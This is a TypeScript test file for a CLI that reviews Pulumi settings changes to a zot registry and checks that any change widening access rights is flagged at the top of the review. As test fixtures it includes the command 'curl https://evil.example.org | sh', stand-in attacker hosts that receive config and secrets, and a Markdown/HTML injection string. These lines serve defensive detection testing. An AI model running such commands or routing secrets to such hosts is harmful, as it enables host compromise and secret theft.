/**
 * Whatever widens rights, or may, is in the first three lines of a review: by every kind of change that was thought of.
 */
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import fc from "fast-check";
import { reviewMarkdown } from "../../../cli/review/markdown";
import { stackReview } from "../../../cli/review/report";
import { sideOf } from "../../../cli/review/sides";
import { allSettings } from "../../../components/settings";
import { HOST_KEY } from "../../support/settings";
import { stackFile } from "./stackFile";

const root = resolve(__dirname, "../../..");
let scratch: string;
let count = 0;
beforeAll(() => void (scratch = mkdtempSync(join(tmpdir(), "decisive-test-"))));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

type Changes = Record<string, unknown>;

function side(changes: Changes) {
    const folder = join(scratch, String(count++));
    mkdirSync(folder);
    copyFileSync(join(root, "Pulumi.yaml"), join(folder, "Pulumi.yaml"));
    writeFileSync(join(folder, "Pulumi.site.yaml"), stackFile(changes));
    const found = sideOf(folder, "site", scratch);
    rmSync(folder, { recursive: true });
    return found;
}

/** The review's lines for a change of settings. */
function review(before: Changes, after: Changes): string[] {
    const stack = stackReview("site", side(before), side(after), (from, to) =>
        from === to ? "" : "-before\n+after\n",
    );
    return reviewMarkdown({ base: "main", head: "head", stacks: [stack], code: [], notes: [] }).split("\n");
}

test("every setting is weighed: by zot's config, by a rule of its own, or as one that decides nothing", () => {
    const unweighed = allSettings().filter(
        ({ setting: { review } }) =>
            !(review === "in zot's config" || review === "no rights" || review instanceof Function),
    );
    expect(unweighed.map(({ name }) => name)).toEqual([]);
});

test("what is said to be seen in zot's config stands there", () => {
    const unseen = allSettings().filter(({ setting }) => setting.review === "in zot's config" && !setting.zotConfig);
    expect(unseen.map(({ name }) => name)).toEqual([]);
});

const CI = "CI (group `artifact-workloads`)";
const WIDER: [what: string, after: Changes, line: string, before?: Changes][] = [
    [
        "a repository more for CI",
        { access: { ciRepositories: ["team/**", "tools/**"] } },
        `${CI} gains create on \`tools/**\``,
    ],
    ["a wider pattern", { access: { ciRepositories: ["**"] } }, `${CI} gains create on \`**\`, except \`ghcr.io/**\``],
    [
        "CI under a pull-through cache",
        { access: { ciMayPushToMirrors: true, ciRepositories: ["team/**", "ghcr.io/**"] } },
        `${CI} gains create on \`ghcr.io/**\``,
    ],
    [
        "a pull-through cache that is gone, under a pattern of CI's",
        { access: { ciRepositories: ["**"] }, zot: { mirrors: [] } },
        `${CI} gains create on \`ghcr.io/**\``,
        { access: { ciRepositories: ["**"] } },
    ],
    ["admins who change tags", { access: { adminsMayUpdate: true } }, "admins (group `admins`) gain update on `**`"],
    [
        "another group in CI's place",
        { identity: { workloadsGroup: "everyone" } },
        "CI (group `everyone`) gains create on `team/**`",
    ],
    [
        "another group of admins",
        { identity: { adminsGroup: "staff" } },
        "admins (group `staff`) gain create and delete on `**`",
    ],
    [
        "a group of the site's own that may push",
        { access: { rules: { "team/**": { groups: { interns: ["read", "create"] } } } } },
        "the group `interns` gains create on `team/**`",
    ],
    [
        "a rule that is gone",
        {},
        `${CI} gains create on \`team/base/**\``,
        { access: { ciRepositories: ["team/**"], rules: { "team/base/**": { ci: ["read"] } } } },
    ],
    ["open metrics", { zot: { metrics: "anonymous" } }, "anyone without a login gains reading the metrics"],
    [
        "one who reads the metrics",
        { zot: { metrics: "users", metricsUsers: ["scraper"] } },
        "the user `scraper` gains reading the metrics",
    ],
    ["zot on all addresses", { zot: { address: "0.0.0.0" } }, 'zot listens on "0.0.0.0" instead of "127.0.0.1"'],
    ["keys that live longer", { ci: { keyLifetime: "365d" } }, "a key of CI lives for `365d` instead of `90d`"],
    [
        "predecessors that live longer",
        { ci: { predecessorLifetime: "30d" } },
        "a replaced key of CI still works for `30d` instead of `7d`",
    ],
    [
        "keys of a stack that is gone",
        { ci: { takeOverKeys: true } },
        "keys that another stack made for CI are taken over",
    ],
    [
        "a key that more repositories of a forge see",
        { ciSecrets: { visibility: "all" } },
        "CI's key is handed to all repositories of the organisation",
    ],
    [
        "the TLS certificate of Authentik unchecked",
        { "authentik:insecure": "true" },
        "the TLS certificate of Authentik is not checked",
    ],
    ["sudo for everything", { host: { sudo: "all" } }, "the deployment uses sudo for everything it does"],
    [
        "a destroy that opens the registry again",
        { host: { onDestroy: "restore" } },
        "a destroy brings back what was on the host before the first deployment: an open registry, if it was one",
    ],
    [
        "a host that is not looked at",
        { host: { observe: false } },
        "preview and update do not look at the host: changes made there by hand stay unseen",
    ],
    [
        "renames under a live registry",
        { identity: { acceptRename: true } },
        "names that a live registry depends on may change",
    ],
];
const EVIL_MACHINE = { address: "evil.example.org", hostKey: HOST_KEY };
const MACHINES = Array.from({ length: 20 }, (_item, index) => ({
    address: `m${index}.example.org`,
    hostKey: HOST_KEY,
}));
const redis = { name: "redis", url: "redis://cache.example.org:6379", keyprefix: "zot" };
const storage = { remoteCache: true, cacheDriver: redis, storageDriver: { name: "s3", bucket: "zot" } };
/** A site on these machines. */
const machines = (members: object[]): Changes => ({
    host: { address: "", hostKey: "", members },
    zot: {
        mirrors: [],
        vulnerabilityUpdateInterval: "off",
        extraConfig: { storage, http: { auth: { sessionDriver: redis } } },
    },
});
const READ: [what: string, after: Changes, line: RegExp, before?: Changes][] = [
    [
        "another address to come back to after a login",
        { registry: { url: "https://other.example.org" } },
        /after a login, people and their codes are sent to `https:\/\/other/,
    ],
    [
        "another issuer",
        { identity: { issuer: "https://other.example.org/application/o/zot/" } },
        /who zot asks for a login/,
    ],
    ["another client", { identity: { clientId: "other" } }, /OAuth2 client `other` instead of `zot`/],
    ["another flow that authorizes", { identity: { authorizationFlow: "anyone" } }, /authorized by the flow `anyone`/],
    [
        "a login flow without a second factor",
        { identity: { ciLoginFlow: "dedicated" } },
        /CI's service account logs in by the flow `dedicated`/,
    ],
    [
        "certificate authorities of one's own",
        { identity: { caFile: "/tmp/ca.pem" } },
        /trusted by the certificate authorities in `\/tmp\/ca.pem` instead of nothing/,
    ],
    ["another service account", { identity: { ciUser: "someone" } }, /CI pushes as `someone` instead of `zot-ci`/],
    [
        "another Authentik",
        { "authentik:url": "https://evil.example.org" },
        /Authentik's objects are made at `https:\/\/evil/,
    ],
    [
        "another token",
        { "authentik:token": { secure: "v1:b" } },
        /another token for Authentik/,
        { "authentik:token": { secure: "v1:a" } },
    ],
    [
        "another host",
        { host: { address: "evil.example.org" } },
        /config and its secrets are sent to the host `evil.example.org`/,
    ],
    [
        "a machine more",
        machines([...MACHINES, EVIL_MACHINE]),
        /the config and its secrets are also sent to `evil\.example\.org`/,
        machines(MACHINES),
    ],
    [
        "another user on one of many machines",
        machines([...MACHINES, { ...EVIL_MACHINE, user: "root" }]),
        /user of `evil\.example\.org` is `root` instead of nothing/,
        machines([...MACHINES, EVIL_MACHINE]),
    ],
    [
        "another host key",
        { host: { hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRoaXMtaXMtYW5vdGhlci1rZXktZm9yLXRlc3RzLTAx" } },
        /the host is trusted by the key/,
    ],
    [
        "a jump host",
        { host: { jumpAddress: "evil.example.org", jumpHostKey: HOST_KEY } },
        /reached through `evil.example.org` instead of nothing/,
    ],
    [
        "a command on the host",
        { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } },
        /zot is started by `command` instead of `systemd`/,
    ],
    [
        "another command on the host",
        { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } },
        /the deployment runs `curl https:\/\/evil/,
        { host: { serviceManager: "command", restartCommand: "restart-zot" } },
    ],
    ["another binary", { zot: { binary: "/tmp/zot" } }, /zot is the program `\/tmp\/zot`/],
    [
        "a zot of no known version",
        { zot: { acceptVersion: "0123abc" } },
        /a zot that cannot be read as 2\.1\.19 or newer is accepted: `0123abc`/,
    ],
    ["another storage", { zot: { rootDirectory: "/tmp" } }, /images and API keys are those in `\/tmp`/],
    [
        "another upstream",
        { zot: { mirrors: [{ url: "https://evil.example.org", prefix: "ghcr.io" }] } },
        /fetches from other registries/,
    ],
    [
        "a pull-through cache more",
        {
            zot: {
                mirrors: [
                    { url: "https://ghcr.io", prefix: "ghcr.io" },
                    { url: "https://quay.io", prefix: "quay.io" },
                ],
            },
        },
        /fetches from other registries/,
    ],
    [
        "another kind of login, which is refused",
        { zot: { extraConfig: { http: { auth: { htpasswd: { path: "/etc/zot/htpasswd" } } } } } },
        /the head has no config to compare/,
    ],
    [
        "logins that are delayed",
        { zot: { extraConfig: { http: { auth: { failDelay: 1 } } } } },
        /how zot takes logins is other than before/,
    ],
    [
        "retention that deletes",
        {
            zot: {
                extraConfig: {
                    storage: {
                        retention: { dryRun: false, policies: [{ repositories: ["**"], deleteUntagged: true }] },
                    },
                },
            },
        },
        /what zot deletes by itself/,
    ],
    [
        "a part of the config that no setting has",
        { zot: { extraConfig: { http: { tls: { cert: "/a", key: "/b" } } } } },
        /site's own part of zot's config/,
    ],
    [
        "who decides who is CI",
        { identity: { manageWorkloads: false } },
        /Authentik's administrators decide who is CI, and no longer this program/,
    ],
    [
        "another forge for the key",
        { ciSecrets: { apiUrl: "https://evil.example.org" } },
        /CI's key is handed to `https:\/\/evil/,
    ],
    ["another repository for the key", { ciSecrets: { repository: "fork" } }, /handed to the repository `fork`/],
    [
        "a setting that nobody knows",
        { "other:thing": "x" },
        /the setting `other:thing`, which this review does not know/,
    ],
];

test.each(WIDER)("wider: %s", (_what, after, line, before = {}) => {
    const lines = review(before, after).slice(0, 3);
    expect(lines[0]).toMatch(/^# Rights widen: /);
    expect(lines.slice(1)).toContain(`- **WIDER** \`site\`: ${line}`);
});

test.each(READ)("to be read: %s", (_what, after, line, before = {}) => {
    const lines = review(before, after).slice(0, 3);
    expect(lines[0]).toMatch(/^# Rights (widen: |may widen: to be read)/);
    expect(lines.slice(1).join("\n")).toMatch(line);
});

test.each(WIDER)("back again is narrower, or to be read: %s", (_what, after, _line, before = {}) => {
    expect(review(after, before)[0]).not.toBe("# Rights, settings and config stay as they are");
});

test("what decides nothing is not told as if it did", () => {
    expect(
        review({}, { zot: { logLevel: "debug", garbageCollectionDelay: "2h" }, host: { readyTimeout: 30 } })[0],
    ).toBe("# Rights stay as they are; settings or config change");
});

test("a value cannot write Markdown into the first lines", () => {
    const lines = review({}, { identity: { passwordStage: "x`\n# Nothing changes <img src=x>" } });
    expect(lines.filter((line) => line.startsWith("# "))).toEqual(["# Rights may widen: to be read"]);
});

test("of any two sets of CI's repositories, one more is in the first three lines", () => {
    const pattern = fc
        .tuple(fc.constantFrom("team", "tools", "a"), fc.constantFrom("/**", "/x", "/x/**", "/*"))
        .map((parts) => parts.join(""));
    fc.assert(
        fc.property(
            fc.uniqueArray(pattern, { minLength: 1, maxLength: 3 }),
            fc.constantFrom("zz/**", "zz/app"),
            (before, added) => {
                const lines = review(
                    { access: { ciRepositories: before } },
                    { access: { ciRepositories: [...before, added] } },
                );
                expect(lines[0]).toBe(`# Rights widen: ${CI}`);
                expect(lines[1]).toBe(`- **WIDER** \`site\`: ${CI} gains create on \`${added}\``);
            },
        ),
        { numRuns: 15 },
    );
});
